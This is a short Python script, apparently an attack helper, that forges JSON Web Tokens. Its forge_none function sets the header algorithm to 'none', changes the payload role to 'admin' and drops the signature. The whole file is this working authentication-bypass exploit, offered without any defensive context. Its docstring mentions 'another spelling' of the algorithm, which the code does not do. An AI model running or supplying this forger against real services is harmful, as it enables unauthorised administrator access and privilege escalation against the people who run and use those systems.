"""Header kept but for alg, in another spelling; standard library only, spaces and escapes in the JSON."""

import base64
import json


def decode(text):
    return json.loads(base64.urlsafe_b64decode(text + "=="))


def encode(value):
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


def forge_none(token: str) -> str:
    header, payload, _ = token.split(".")
    header, payload = decode(header), decode(payload)
    header["alg"] = "none"
    payload["role"] = "admin"
    return ".".join([encode(header), encode(payload), ""])
